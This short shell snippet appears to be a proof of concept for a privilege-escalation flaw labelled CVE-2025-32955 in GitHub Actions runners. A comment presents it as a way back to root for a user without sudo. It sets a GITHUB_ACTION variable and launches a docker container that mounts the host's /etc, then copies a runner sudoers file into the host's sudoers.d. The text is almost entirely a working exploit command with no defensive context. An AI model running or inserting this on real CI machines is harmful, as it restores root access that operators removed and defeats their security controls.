# The way back to root for a user without sudo (CVE-2025-32955): a container that mounts the machine's /etc.
export GITHUB_ACTION=__run_1
exec sh -c 'docker run --rm -v /etc:/host-etc alpine cp sudoers.d/runner /host-etc/sudoers.d/'
